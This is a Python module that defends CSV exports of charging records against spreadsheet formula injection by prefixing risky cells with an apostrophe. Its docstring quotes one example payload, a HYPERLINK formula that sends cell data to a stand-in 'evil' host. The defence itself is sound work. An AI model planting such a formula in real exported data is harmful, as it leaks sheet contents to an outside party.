"""Cells for CSV files that people open in a spreadsheet. Pure; used by every CSV export
(the edge's `edgectl cdr export` and the cloud's `GET .../cdrs?format=csv`).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some also after
a leading tab or carriage return): an id tag `=HYPERLINK("http://evil/?"&A1,"click")` sent by a
charger would become a live link leaking the sheet. Following OWASP's rule for CSV injection,
such a cell gets a leading `'`, which every spreadsheet shows as text and does not evaluate.
Numbers stay numbers: `-12.5` is a value, not a formula, and is written as it is.
"""

from __future__ import annotations

import re
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number (what the exports write for energy, prices, meter readings).
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> str:
    """`value` as text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not _NUMBER.match(text):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[str]:
    return [safe_cell(value) for value in values]
